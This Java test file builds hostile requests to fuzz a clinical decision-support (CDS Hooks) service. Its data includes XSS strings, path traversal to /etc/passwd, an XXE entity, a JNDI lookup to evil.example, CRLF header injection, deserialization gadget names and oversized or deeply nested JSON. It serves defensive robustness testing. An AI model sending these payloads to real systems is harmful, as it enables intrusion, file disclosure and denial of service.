package org.apposite.cds;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.Reader;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Properties;
import java.util.function.Supplier;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.apposite.cds.request.Json;

/**
 * Requests that nobody well-meaning sends: those of the tables of the folder hostile, and generated ones. A table has a
 * request after each {@code # title}: its method and path, its headers, and after {@code ---} its body; or, with {@code
 * change} and a file, the changes that are made to that body: {@code set}, {@code add} and {@code remove} with a JSON
 * pointer.
 */
final class HostileRequests {

    /** A word that no answer may repeat. */
    static final String CANARY = "kanarienvogel";

    static final String SELECT = "/cds-services/apposite-order-select";

    private static final Path FOLDER = Path.of("src/test/resources/hostile");
    private static final String FILE = "lumbar-mri.json";
    private static final Map<String, String> JSON = Map.of("Content-Type", "application/json");
    private static final Map<String, String> STATUS =
            Map.of("ImagingStudy", "available", "QuestionnaireResponse", "completed");
    private static final String MEGABYTE = (CANARY + ' ').repeat(75_000);
    private static final List<String> INJECTIONS = List.of(
            "\"><script>alert('" + CANARY + "')</script>",
            "<img src=x onerror=alert(1)> " + CANARY,
            "[" + CANARY + "](javascript:alert(1)) ![x](http://evil.example/x.png)",
            "x\n\n# " + CANARY + "\n\n| a | b |\n|---|---|\n<b>`c`",
            "\u202e" + CANARY + "\u0000\u0007\u2028 http://evil.example www.evil.example a@evil.example",
            String.join(" ", hostileTexts()));

    /** One of them, made when it is needed, since many are large. */
    record Hostile(String title, Supplier<CdsRequest> request) {}

    private HostileRequests() {}

    /** The texts that no output of the command obeys either. */
    static List<String> hostileTexts() {
        Properties texts = new Properties();
        try (Reader reader = Files.newBufferedReader(Path.of("../../src/test/resources/hostile-texts.properties"))) {
            texts.load(reader);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return texts.stringPropertyNames().stream()
                .sorted()
                .map(texts::getProperty)
                .toList();
    }

    static Stream<Hostile> all() {
        return Stream.of(ofTables(), members(), injections(), bytes(), cut(), paths(), headers(), large(), resources())
                .flatMap(List::stream);
    }

    // Tables.

    static List<Hostile> ofTables() {
        List<Hostile> all = new ArrayList<>();
        try (Stream<Path> files = Files.list(FOLDER)) {
            for (Path file : files.filter(one -> one.toString().endsWith(".txt"))
                    .sorted()
                    .toList()) {
                for (String block : Files.readString(file).split("(?m)^# ", -1)) {
                    if (!block.isBlank()) {
                        all.add(read(file.getFileName() + ": ", block));
                    }
                }
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return all;
    }

    private static Hostile read(String prefix, String block) {
        String[] halves = block.split("(?m)^---\\n", 2);
        List<String> lines = halves[0].lines().filter(line -> !line.isBlank()).toList();
        String title = prefix + lines.get(0);
        String[] start = lines.get(1).split(" ", 2);
        if (start[0].equals("change")) {
            return new Hostile(title, () -> {
                ObjectNode body = Requests.of(start[1]);
                lines.subList(2, lines.size()).forEach(line -> change(body, line));
                return Requests.post(serviceOf(body), body);
            });
        }
        Map<String, String> headers = new LinkedHashMap<>();
        if (start[0].equals("POST")) {
            headers.putAll(JSON);
        }
        for (String line : lines.subList(2, lines.size())) {
            String[] header = line.split(":", 2);
            headers.put(header[0], header[1].strip());
        }
        byte[] body = halves.length == 1 ? new byte[0] : halves[1].strip().getBytes(StandardCharsets.UTF_8);
        return new Hostile(title, () -> new CdsRequest(start[0], start[1], headers, body));
    }

    private static String serviceOf(ObjectNode body) {
        String hook = body.path("hook").asText("");
        return "/cds-services/apposite-"
                + (hook.equals("order-sign") || hook.equals("patient-view") ? hook : "order-select");
    }

    private static void change(ObjectNode body, String line) {
        String[] words = line.split(" ", 3);
        int slash = words[1].lastIndexOf('/');
        String key = words[1].substring(slash + 1).replace("~1", "/").replace("~0", "~");
        JsonNode parent = body.at(words[1].substring(0, slash));
        switch (words[0]) {
            case "set" -> put(parent, key, Requests.json(words[2]));
            case "add" -> ((ArrayNode) body.at(words[1])).add(Requests.json(words[2]));
            case "remove" -> remove(parent, key);
            default -> throw new IllegalArgumentException(line);
        }
    }

    private static void put(JsonNode parent, String key, JsonNode value) {
        if (parent instanceof ObjectNode object) {
            object.set(key, value);
        } else {
            ((ArrayNode) parent).set(Integer.parseInt(key), value);
        }
    }

    private static void remove(JsonNode parent, String key) {
        if (parent instanceof ObjectNode object) {
            object.remove(key);
        } else {
            ((ArrayNode) parent).remove(Integer.parseInt(key));
        }
    }

    // Every member of a request: gone, or something else.

    private static List<Hostile> members() {
        Map<String, String> instead = new LinkedHashMap<>();
        instead.put("null", "null");
        instead.put("a number", "7");
        instead.put("true", "true");
        instead.put("a text", '"' + CANARY + '"');
        instead.put("an empty text", "\"\"");
        instead.put("a blank text", "\" \\t \"");
        instead.put("an empty list", "[]");
        instead.put("an empty object", "{}");
        instead.put("a list of nulls", "[null, null]");
        instead.put("an object of strangers", "{\"__proto__\": {\"" + CANARY + "\": 1}, \"resourceType\": 5}");
        instead.put("10,000 lists deep", "[".repeat(10_000) + "]".repeat(10_000));
        instead.put("10,000 objects deep", "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
        instead.put("90 lists deep", "[".repeat(90) + "]".repeat(90));
        instead.put("a megabyte of text", '"' + MEGABYTE + '"');
        List<Hostile> all = new ArrayList<>();
        for (String pointer : pointers()) {
            all.add(new Hostile("without " + pointer, () -> {
                ObjectNode body = Requests.of(FILE);
                change(body, "remove " + pointer);
                return Requests.post(SELECT, body);
            }));
            instead.forEach((name, json) ->
                    all.add(new Hostile(pointer + " is " + name, () -> Requests.post(SELECT, with(pointer, json)))));
        }
        return all;
    }

    /** The body with something written in one place, which may be no tree that could be built. */
    private static String with(String pointer, String json) {
        ObjectNode body = Requests.of(FILE);
        change(body, "set " + pointer + " \"the place\"");
        return body.toString().replace("\"the place\"", json);
    }

    /** Of lists, the first entry stands for all. */
    private static List<String> pointers() {
        List<String> pointers = new ArrayList<>();
        pointers("", Requests.of(FILE), pointers);
        return pointers;
    }

    private static void pointers(String at, JsonNode node, List<String> pointers) {
        if (node instanceof ObjectNode object) {
            object.forEachEntry((key, value) -> {
                pointers.add(at + "/" + key);
                pointers(at + "/" + key, value, pointers);
            });
        } else if (node.isArray() && !node.isEmpty()) {
            pointers.add(at + "/0");
            pointers(at + "/0", node.path(0), pointers);
        }
    }

    // Texts that would be more than texts on a card.

    private static List<Hostile> injections() {
        List<Hostile> all = new ArrayList<>();
        ObjectNode plain = Requests.of(FILE);
        for (String pointer : pointers()) {
            JsonNode value = plain.at(pointer);
            for (int i = 0; i < INJECTIONS.size(); i++) {
                String injection = INJECTIONS.get(i);
                if (value.isTextual()) {
                    all.add(changed("injection " + i + " at " + pointer, body -> {
                        set(body, pointer, injection);
                        return body;
                    }));
                    all.add(changed("injection " + i + " after " + pointer, body -> {
                        set(body, pointer, value.textValue() + injection);
                        return body;
                    }));
                } else if (value.isObject()) {
                    for (String key : List.of("display", "text", "id", "title", "description")) {
                        all.add(changed("injection " + i + " as " + key + " of " + pointer, body -> {
                            ((ObjectNode) body.at(pointer)).put(key, injection);
                            return body;
                        }));
                    }
                }
            }
        }
        for (int i = 0; i < INJECTIONS.size(); i++) {
            String injection = INJECTIONS.get(i);
            all.add(changed("injection " + i + " as a key of prefetch", body -> {
                ((ObjectNode) body.path("prefetch")).putObject(injection).put("resourceType", "Nothing");
                return body;
            }));
            all.add(changed("injection " + i + " as a failed search of a key of prefetch", body -> {
                ((ObjectNode) body.path("prefetch")).putObject(injection).put("resourceType", "OperationOutcome");
                return body;
            }));
        }
        return all;
    }

    private static void set(ObjectNode body, String pointer, String text) {
        int slash = pointer.lastIndexOf('/');
        put(body.at(pointer.substring(0, slash)), pointer.substring(slash + 1), body.textNode(text));
    }

    private static Hostile changed(String title, UnaryOperator<ObjectNode> change) {
        return new Hostile(title, () -> {
            ObjectNode body = change.apply(Requests.of(FILE));
            return Requests.post(serviceOf(body), body);
        });
    }

    // Bytes that are no JSON, or hardly.

    private static List<Hostile> bytes() {
        String good = Requests.of(FILE).toString();
        List<Hostile> all = new ArrayList<>();
        for (Charset charset : List.of(
                StandardCharsets.UTF_16,
                StandardCharsets.UTF_16LE,
                StandardCharsets.UTF_16BE,
                Charset.forName("UTF-32"),
                Charset.forName("IBM037"))) {
            all.add(raw("in " + charset, good.getBytes(charset)));
        }
        all.add(raw("after a byte order mark", join(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(good))));
        Map<String, byte[]> strange = new LinkedHashMap<>();
        strange.put("a lone continuation byte", new byte[] {(byte) 0x80});
        strange.put("a start of three bytes", new byte[] {(byte) 0xE2, (byte) 0x82});
        strange.put("an overlong slash", new byte[] {(byte) 0xC0, (byte) 0xAF});
        strange.put("a surrogate in UTF-8", new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80});
        strange.put("beyond Unicode", new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80});
        strange.put("FE and FF", new byte[] {(byte) 0xFE, (byte) 0xFF});
        strange.put("a NUL", new byte[] {0});
        strange.put("an escape", new byte[] {0x1B, '['});
        strange.put("a lone high surrogate", utf8("\\ud800"));
        strange.put("a lone low surrogate", utf8("\\udc00"));
        strange.put("surrogates the wrong way round", utf8("\\udc00\\ud800"));
        strange.put("an escaped NUL", utf8("\\u0000"));
        strange.put("no character", utf8("\\uffff"));
        strange.put("a line break", utf8("\n"));
        for (String pointer : List.of(
                "/hookInstance",
                "/context/patientId",
                "/context/selections/0",
                "/context/draftOrders/entry/0/resource/id",
                "/context/draftOrders/entry/0/resource/note/0/text",
                "/prefetch/patient/birthDate",
                "/prefetch/conditions/entry/0/resource/id",
                "/prefetch/conditions/entry/1/resource/id",
                "/prefetch/conditions/entry/0/resource/code/coding/0/code")) {
            strange.forEach((name, bytes) -> {
                String[] halves = with(pointer, "\"the place\"").split("the place", -1);
                all.add(raw(name + " in " + pointer, join(utf8(halves[0]), bytes, utf8(halves[1]))));
            });
        }
        for (String digits : List.of(
                "1e999999999",
                "-1e999999999",
                "1e-999999999",
                "9".repeat(99),
                "9".repeat(10_000),
                "-0",
                "0.0000000000000000000000000000000000000000000000001",
                "NaN",
                "Infinity",
                "01",
                "+1",
                ".5",
                "0x10",
                "9223372036854775808")) {
            for (String pointer : List.of(
                    "/hook",
                    "/context/patientId",
                    "/context/draftOrders/entry/0/resource/id",
                    "/context/draftOrders/entry/0/resource/priority",
                    "/prefetch/patient/birthDate",
                    "/prefetch/observations/entry/0/resource/valueBoolean",
                    "/prefetch/observations/entry/0/resource/valueInteger")) {
                all.add(new Hostile(
                        (digits.length() > 99 ? digits.length() + " digits" : digits) + " at " + pointer,
                        () -> Requests.post(SELECT, with(pointer, digits))));
            }
            all.add(new Hostile(
                    (digits.length() > 99 ? digits.length() + " digits" : digits) + " as a quantity",
                    () -> Requests.post(
                            SELECT,
                            with(
                                    "/prefetch/observations/entry/0/resource/valueQuantity",
                                    "{\"value\": " + digits + ", \"unit\": \"" + CANARY + "\"}"))));
        }
        int number = 0;
        for (String body : List.of(
                "",
                " ",
                "null",
                "true",
                "7",
                "\"" + CANARY + "\"",
                "[]",
                "{}",
                "{",
                "}",
                "[",
                "{\"hook\"",
                "{\"" + CANARY,
                "{'hook': '" + CANARY + "'}",
                "{hook: 1}",
                "{\"hook\": \"order-select\",}",
                "// " + CANARY + "\n{}",
                "/* " + CANARY + " */ {}",
                "{\"hook\": \"" + CANARY + "\", \"hook\": \"order-select\"}",
                "{\"hook\": \"order-select\", \"ho\\u006fk\": \"" + CANARY + "\"}",
                good + good,
                good + " " + CANARY,
                good + "]",
                good + "\u0000",
                "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;" + CANARY
                        + "</a>",
                "hook=order-select&a=" + CANARY,
                "--- !!javax.script.ScriptEngineManager [" + CANARY + "]",
                "{\"@class\": \"java.lang.ProcessBuilder\", \"hook\": \"order-select\"}",
                "[\"java.util.ArrayList\", []]",
                "{\"a\": " + "[".repeat(100_000),
                "{\"a\":".repeat(100_000),
                "[".repeat(500_000) + "]".repeat(500_000),
                "{\"" + "a".repeat(60_000) + "\": 1}",
                "\u00ac\u00ed\u0000\u0005")) {
            String title = number++ + ": " + printable(body.substring(0, Math.min(40, body.length())));
            for (String path :
                    List.of(SELECT, SELECT + "/feedback", "/cds-services/apposite-patient-view", "/answer")) {
                all.add(new Hostile(
                        "the body " + title + " (" + body.length() + ") to " + path, () -> Requests.post(path, body)));
            }
        }
        return all;
    }

    private static Hostile raw(String title, byte[] body) {
        return new Hostile(title, () -> new CdsRequest("POST", SELECT, JSON, body));
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] join(byte[]... parts) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static List<Hostile> cut() {
        byte[] good = utf8(Requests.of(FILE).toString());
        List<Hostile> all = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            int length = good.length * i / 60;
            all.add(raw("cut after " + length + " bytes", Arrays.copyOf(good, length)));
        }
        return all;
    }

    // Paths and headers.

    private static List<Hostile> paths() {
        List<Hostile> all = new ArrayList<>();
        for (String path : List.of(
                "",
                "//",
                "///etc/passwd",
                "/.",
                "/..",
                "/../../../../etc/passwd",
                "/%2e%2e/%2e%2e/etc/passwd",
                "/..%2f..%2fetc%2fpasswd",
                "/..%5c..%5cwindows",
                "/page/../CdsService.class",
                "/../CdsService.class",
                "/%00",
                "/index.html%00.png",
                "/form.js/",
                "/form.js/..",
                "//form.js",
                "/./form.js",
                "/META-INF/MANIFEST.MF",
                "/org/apposite/cds/page/index.html",
                "/cds-services/",
                "//cds-services",
                "/cds-services//",
                "/cds-services/../metrics",
                "/cds-services/%2e%2e/metrics",
                "/cds-services/apposite-order-select/",
                "/cds-services/apposite-order-select//feedback",
                "/cds-services/apposite-order-select/feedback/",
                "/cds-services/apposite-order-select/feedback/../..",
                "/cds-services/APPOSITE-ORDER-SELECT",
                "/cds-services/apposite-order-select%00",
                "/cds-services/apposite-order-select;a=b",
                "/cds-services/apposite-order%2Dselect",
                "/cds-services/" + CANARY,
                "/cds-services/" + "a".repeat(100_000),
                "/" + "a/".repeat(100_000),
                "/Questionnaire/",
                "/Questionnaire/..",
                "/Questionnaire/../metrics",
                "/Questionnaire/%2e%2e",
                "/Questionnaire/" + CANARY,
                "/Questionnaire/" + "a".repeat(100_000),
                "/health/",
                "/health/live/",
                "/health/../metrics",
                "/topics/",
                "/answer/",
                "/metrics/",
                "/\r\nX-Evil: 1",
                "/\u0000",
                "/\ud800",
                "*",
                "http://evil.example/",
                "/?a=b",
                "/#a")) {
            String title = path.length() > 80 ? path.length() + " characters" : printable(path);
            for (String method : List.of("GET", "POST", "OPTIONS")) {
                all.add(new Hostile(
                        method + " of the path " + title, () -> new CdsRequest(method, path, JSON, new byte[0])));
            }
        }
        for (String method :
                List.of("PUT", "DELETE", "PATCH", "TRACE", "CONNECT", "get", "", "A".repeat(100_000), "G\r\nX: 1")) {
            for (String path : List.of("/", "/cds-services", SELECT, SELECT + "/feedback", "/answer", "/metrics")) {
                all.add(new Hostile(
                        "the method "
                                + method.substring(0, Math.min(9, method.length()))
                                        .strip() + " of " + path,
                        () -> new CdsRequest(method, path, JSON, new byte[0])));
            }
        }
        return all;
    }

    private static List<Hostile> headers() {
        byte[] good = utf8(Requests.of(FILE).toString());
        List<Hostile> all = new ArrayList<>();
        for (String name : List.of(
                "Content-Type", "Authorization", "Origin", "Content-Length", "Accept", "Cookie", "X-" + CANARY)) {
            for (String value : List.of(
                    "",
                    " ",
                    CANARY,
                    "a".repeat(1_000_000),
                    ";".repeat(100_000),
                    "application/json\r\nX-Evil: 1",
                    "text/html; " + CANARY,
                    "application/json; charset=utf-7",
                    "application/json, text/html",
                    "Bearer " + "a.".repeat(50_000),
                    "null",
                    "-1",
                    "99999999999999999999",
                    "\u0000",
                    "${jndi:ldap://evil.example/a}",
                    "http://127.0.0.1:8080.evil.example")) {
                String title = value.length() > 60 ? value.length() + " characters" : printable(value);
                all.add(new Hostile("the header " + name + " as " + title, () -> {
                    Map<String, String> headers = new LinkedHashMap<>(JSON);
                    headers.put(name, value);
                    return new CdsRequest("POST", SELECT, headers, good);
                }));
            }
        }
        all.add(new Hostile("10,000 headers", () -> {
            Map<String, String> headers = new LinkedHashMap<>(JSON);
            for (int i = 0; i < 10_000; i++) {
                headers.put("X-" + i, CANARY);
            }
            return new CdsRequest("POST", SELECT, headers, good);
        }));
        return all;
    }

    // Very many of something.

    private static List<Hostile> large() {
        List<Hostile> all = new ArrayList<>();
        for (String hook : List.of("order-select", "order-sign")) {
            all.add(changed("10,000 drafts to " + hook, body -> {
                ArrayNode entries = entries(body.put("hook", hook), "/context/draftOrders");
                for (int i = 0; i < 10_000; i++) {
                    entries.addObject()
                            .putObject("resource")
                            .put("resourceType", "ServiceRequest")
                            .put("id", "a" + i);
                }
                return body;
            }));
            all.add(changed("11 imaging orders to " + hook, body -> {
                ArrayNode entries = entries(body.put("hook", hook), "/context/draftOrders");
                for (int i = 0; i < 10; i++) {
                    entries.add(entries.path(0).deepCopy());
                }
                return body;
            }));
        }
        all.add(changed("as many selections and drafts as fit", body -> {
            ArrayNode selections = (ArrayNode) body.path("context").path("selections");
            for (int i = 0; i < 100_000; i++) {
                selections.add("" + i);
            }
            ArrayNode entries = entries(body, "/context/draftOrders");
            for (int i = 0; i < 20_000; i++) {
                entries.addObject()
                        .putObject("resource")
                        .put("resourceType", "ServiceRequest")
                        .put("id", "x");
            }
            return body;
        }));
        all.add(changed("100,000 selections", body -> {
            ArrayNode selections = (ArrayNode) body.path("context").path("selections");
            for (int i = 0; i < 100_000; i++) {
                selections.add("a" + i);
            }
            return body;
        }));
        for (String kind : List.of("conditions", "observations", "imagingReports")) {
            all.add(changed("6,000 resources as " + kind, body -> {
                ArrayNode entries = entries(body, "/prefetch/" + kind);
                JsonNode first = entries.path(0).path("resource").deepCopy();
                ((ObjectNode) first).remove(List.of("subject", "verificationStatus", "clinicalStatus", "recordedDate"));
                entries.removeAll();
                for (int i = 0; i < 6_000; i++) {
                    entries.addObject().set("resource", ((ObjectNode) first.deepCopy()).put("id", "a" + i));
                }
                return body;
            }));
        }
        // What tells them apart is compared each with each where it is done carelessly.
        for (String type : List.of("Condition", "Patient")) {
            all.add(changed("10,000 versions of one " + type, body -> {
                ArrayNode entries = entries(body, "/prefetch/conditions");
                for (int i = 0; i < 10_000; i++) {
                    entries.addObject()
                            .putObject("resource")
                            .put("resourceType", type)
                            .put("id", "child-9")
                            .put("language", "en-x-" + i);
                }
                return body;
            }));
        }
        all.add(changed("one id at 8,000 servers", body -> {
            ArrayNode entries = entries(body, "/prefetch/conditions");
            for (int i = 0; i < 8_000; i++) {
                entries.addObject()
                        .put("fullUrl", "https://s" + i + ".example/Condition/1")
                        .putObject("resource")
                        .put("resourceType", "Condition")
                        .put("id", "1")
                        .putObject("subject")
                        .put("reference", "https://s" + i + ".example/Patient/child-9");
            }
            return body;
        }));
        fansIn(all);
        all.add(changed("10,000 entries that are nothing", body -> {
            ArrayNode entries = entries(body, "/prefetch/conditions");
            for (int i = 0; i < 10_000; i++) {
                entries.addObject().putObject("resource").put("resourceType", "Nothing");
            }
            return body;
        }));
        all.add(changed("10,000 keys of prefetch", body -> {
            ObjectNode prefetch = (ObjectNode) body.path("prefetch");
            for (int i = 0; i < 10_000; i++) {
                prefetch.putObject(CANARY + i).put("resourceType", "Nothing");
            }
            return body;
        }));
        for (String pointer : List.of(
                "/context/draftOrders/entry/0/resource/code/coding",
                "/prefetch/conditions/entry/0/resource/code/coding",
                "/prefetch/imagingReports/entry/0/resource/conclusionCode")) {
            all.add(changed("10,000 of the same at " + pointer, body -> {
                ArrayNode list = (ArrayNode) body.at(pointer);
                JsonNode first = list.path(0);
                for (int i = 0; i < 10_000; i++) {
                    list.add(first.deepCopy());
                }
                return body;
            }));
        }
        for (String pointer : List.of(
                "/context/draftOrders/entry/0/resource",
                "/prefetch/patient",
                "/prefetch/conditions/entry/0/resource")) {
            all.add(changed("10,000 extensions at " + pointer, body -> {
                ArrayNode list = ((ObjectNode) body.at(pointer)).putArray("extension");
                for (int i = 0; i < 10_000; i++) {
                    list.addObject().put("url", "http://evil.example/" + i).put("valueString", CANARY);
                }
                return body;
            }));
            all.add(changed("extensions of extensions at " + pointer, body -> {
                ObjectNode at = (ObjectNode) body.at(pointer);
                for (int i = 0; i < 40; i++) {
                    at = at.putArray("extension").addObject().put("url", "http://evil.example/" + i);
                }
                return body;
            }));
            all.add(changed("a thousand contained at " + pointer, body -> {
                ArrayNode list = ((ObjectNode) body.at(pointer)).putArray("contained");
                for (int i = 0; i < 1_000; i++) {
                    ObjectNode one =
                            list.addObject().put("resourceType", "Provenance").put("id", "c" + i);
                    one.putArray("target").addObject().put("reference", "#c" + (i + 1) % 1_000);
                }
                return body;
            }));
            all.add(changed("contained in contained at " + pointer, body -> {
                ObjectNode at = (ObjectNode) body.at(pointer);
                for (int i = 0; i < 40; i++) {
                    at = at.putArray("contained")
                            .addObject()
                            .put("resourceType", "List")
                            .put("id", "c" + i);
                }
                return body;
            }));
        }
        all.add(new Hostile("a body that is too large", () -> Requests.post(SELECT, " ".repeat(2 * 1024 * 1024 + 1))));
        all.add(new Hostile("feedback with 101 entries", () -> {
            ObjectNode body = Json.object();
            ArrayNode entries = body.putArray("feedback");
            for (int i = 0; i < 101; i++) {
                entries.addObject().put("card", "a").put("outcome", "overridden");
            }
            return Requests.post(SELECT + "/feedback", body);
        }));
        all.add(new Hostile("feedback of 100,000 accepted suggestions", () -> {
            ObjectNode body = Json.object();
            ObjectNode entry = body.putArray("feedback")
                    .addObject()
                    .put("card", "a")
                    .put("outcome", "accepted")
                    .put("outcomeTimestamp", "2026-11-23T10:00:00Z");
            ArrayNode ids = entry.putArray("acceptedSuggestions");
            for (int i = 0; i < 100_000; i++) {
                ids.addObject().put("id", "a");
            }
            return Requests.post(SELECT + "/feedback", body);
        }));
        all.add(new Hostile("a questionnaire with items in items", () -> {
            ObjectNode body = Json.object().put("resourceType", "QuestionnaireResponse");
            ObjectNode at = body;
            for (int i = 0; i < 45; i++) {
                at = at.putArray("item").addObject().put("linkId", CANARY + i);
            }
            return Requests.post("/answer", body);
        }));
        all.add(new Hostile("a questionnaire with 10,000 answers", () -> {
            ObjectNode body = Json.object().put("resourceType", "QuestionnaireResponse");
            ArrayNode items = body.putArray("item");
            for (int i = 0; i < 10_000; i++) {
                items.addObject()
                        .put("linkId", "night-pain")
                        .putArray("answer")
                        .addObject()
                        .put("valueString", CANARY);
            }
            return Requests.post("/answer", body);
        }));
        return all;
    }

    /** What refers to each other: where each of many is looked for among all, the work grows with their square. */
    private static void fansIn(List<Hostile> all) {
        all.add(changed("a report of 5,000 studies", body -> {
            fill(entries(body, "/prefetch/imagingReports"), 1, "DiagnosticReport", (report, i) -> {
                for (int to = 0; to < 5_000; to++) {
                    refer(report.withArray("imagingStudy").addObject(), "ImagingStudy/a" + to);
                }
            });
            fill(putBundle(body, "imagingStudies"), 5_000, "ImagingStudy", (study, i) -> {});
            return body;
        }));
        all.add(changed("5,000 reports of one study", body -> {
            fill(
                    entries(body, "/prefetch/imagingReports"),
                    5_000,
                    "DiagnosticReport",
                    (report, i) -> refer(report.withArray("imagingStudy").addObject(), "ImagingStudy/a0"));
            fill(putBundle(body, "imagingStudies"), 1, "ImagingStudy", (study, i) -> {});
            return body;
        }));
        all.add(changed("200 reports that name a study of 800 servers 200 times each", body -> {
            fill(entries(body, "/prefetch/imagingReports"), 200, "DiagnosticReport", (report, i) -> {
                for (int again = 0; again < 200; again++) {
                    refer(report.withArray("imagingStudy").addObject(), "ImagingStudy/a0");
                }
            });
            ArrayNode studies = putBundle(body, "imagingStudies");
            for (int i = 0; i < 800; i++) {
                fill(studies, 1, "ImagingStudy", (study, any) -> {});
                ((ObjectNode) studies.path(i)).put("fullUrl", "https://s" + i + ".example/ImagingStudy/a0");
            }
            return body;
        }));
        all.add(changed("5,000 studies of as many days", body -> {
            LocalDate last = LocalDate.parse("2026-11-20");
            fill(
                    putBundle(body, "imagingStudies"),
                    5_000,
                    "ImagingStudy",
                    (study, i) -> study.put("started", last.minusDays(i).toString()));
            return body;
        }));
        all.add(changed("4,000 questionnaires of one day", body -> {
            fill(putBundle(body, "answers"), 4_000, "QuestionnaireResponse", (answers, i) -> {
                answers.put("questionnaire", "https://apposite.org/fhir/Questionnaire/back-pain-child")
                        .put("authored", "2026-11-22");
                ObjectNode item = answers.withArray("item").addObject().put("linkId", "night-pain");
                item.putArray("answer").addObject().put("valueBoolean", i % 2 == 0);
            });
            return body;
        }));
        all.add(changed("an order for 4,000 conditions", body -> {
            ArrayNode reasons =
                    ((ObjectNode) body.at("/context/draftOrders/entry/0/resource")).putArray("reasonReference");
            fill(
                    entries(body, "/prefetch/conditions"),
                    4_000,
                    "Condition",
                    (condition, i) -> refer(reasons.addObject(), "Condition/a" + i));
            return body;
        }));
        all.add(changed("200 conditions with 200 pieces of evidence each", body -> {
            fill(entries(body, "/prefetch/conditions"), 200, "Condition", (condition, i) -> {
                ArrayNode evidence = condition.putArray("evidence").addObject().putArray("detail");
                for (int to = 0; to < 200; to++) {
                    refer(evidence.addObject(), "Observation/a" + to);
                }
            });
            fill(entries(body, "/prefetch/observations"), 200, "Observation", (observation, i) -> {});
            return body;
        }));
    }

    private interface Detail {
        void addTo(ObjectNode resource, int number);
    }

    private static void fill(ArrayNode entries, int count, String type, Detail detail) {
        for (int i = 0; i < count; i++) {
            ObjectNode resource = entries.addObject().putObject("resource");
            resource.put("resourceType", type).put("id", "a" + i).put("status", STATUS.getOrDefault(type, "final"));
            refer(resource.putObject("subject"), "Patient/child-9");
            if (!type.equals("QuestionnaireResponse")) {
                ArrayNode coding = type.equals("ImagingStudy")
                        ? resource.putArray("procedureCode").addObject().putArray("coding")
                        : resource.putObject("code").putArray("coding");
                coding.addObject().put("system", "http://loinc.org").put("code", "24983-9");
            }
            detail.addTo(resource, i);
        }
    }

    private static void refer(ObjectNode reference, String to) {
        reference.put("reference", to);
    }

    private static ArrayNode putBundle(ObjectNode body, String name) {
        return ((ObjectNode) body.path("prefetch"))
                .putObject(name)
                .put("resourceType", "Bundle")
                .put("type", "searchset")
                .putArray("entry");
    }

    private static ArrayNode entries(ObjectNode body, String pointer) {
        return (ArrayNode) body.at(pointer).path("entry");
    }

    // Resources of FHIR.

    private static List<Hostile> resources() {
        List<Hostile> all = new ArrayList<>();
        for (String date : List.of(
                "0000-00-00",
                "0000",
                "9999-12-31",
                "+999999-01-01",
                "-0001-01-01",
                "2026-02-30",
                "2026-13-01",
                "2026-1-1",
                "20261123",
                "2026-11-23T25:00:00Z",
                "2026-11-23T10:00:00+99:00",
                "2026-11-23T10:00:60Z",
                "2026-11-23T10:00:00." + "9".repeat(1_000) + "Z",
                "2026-11-23T10:00:00",
                "2999-01-01",
                "1000000000-01-01",
                "today",
                "\u0662\u0660\u0662\u0666",
                "2026-11-23 ",
                "1e9")) {
            for (String pointer : List.of(
                    "/prefetch/patient/birthDate",
                    "/prefetch/conditions/entry/0/resource/onsetDateTime",
                    "/prefetch/conditions/entry/0/resource/recordedDate",
                    "/prefetch/observations/entry/0/resource/effectiveDateTime",
                    "/prefetch/imagingReports/entry/0/resource/effectiveDateTime",
                    "/context/draftOrders/entry/0/resource/authoredOn")) {
                all.add(changed(
                        "the date " + printable(date.substring(0, Math.min(30, date.length()))) + " at " + pointer,
                        body -> {
                            set(body, pointer, date);
                            return body;
                        }));
            }
        }
        for (String reference : List.of(
                "Patient/other-" + CANARY,
                "Patient/child-9/_history/1",
                "https://evil.example/Patient/child-9",
                "#",
                "#self",
                "urn:uuid:0",
                "Patient/",
                "Patient/child-9?a=b",
                "../Patient/child-9",
                "file:///etc/passwd",
                "javascript:alert(1)",
                "",
                "Patient/" + "a".repeat(100_000))) {
            for (String pointer : List.of(
                    "/prefetch/conditions/entry/0/resource/subject",
                    "/prefetch/observations/entry/0/resource/subject",
                    "/prefetch/imagingReports/entry/0/resource/subject",
                    "/context/draftOrders/entry/0/resource/subject")) {
                all.add(changed(
                        "the reference " + reference.substring(0, Math.min(40, reference.length())) + " at " + pointer,
                        body -> {
                            ((ObjectNode) body.at(pointer)).put("reference", reference);
                            return body;
                        }));
            }
        }
        for (String type : List.of(
                CANARY,
                "condition",
                "Resource",
                "DomainResource",
                "Binary",
                "Bundle",
                "Parameters",
                "Element",
                "List",
                "OperationOutcome",
                "Patient",
                "../Patient",
                "Patient ",
                "org.hl7.fhir.r4.model.Patient",
                "\u0000")) {
            for (String pointer : List.of(
                    "/prefetch/patient",
                    "/prefetch/conditions",
                    "/prefetch/conditions/entry/0/resource",
                    "/context/draftOrders",
                    "/context/draftOrders/entry/0/resource")) {
                all.add(changed("the type " + printable(type) + " at " + pointer, body -> {
                    ((ObjectNode) body.at(pointer)).put("resourceType", type);
                    return body;
                }));
            }
        }
        return all;
    }

    private static String printable(String text) {
        StringBuilder printable = new StringBuilder();
        text.chars()
                .forEach(c -> printable.append(
                        c >= ' ' && c <= '~' ? String.valueOf((char) c) : "U+" + Integer.toHexString(c)));
        return printable.toString();
    }
}
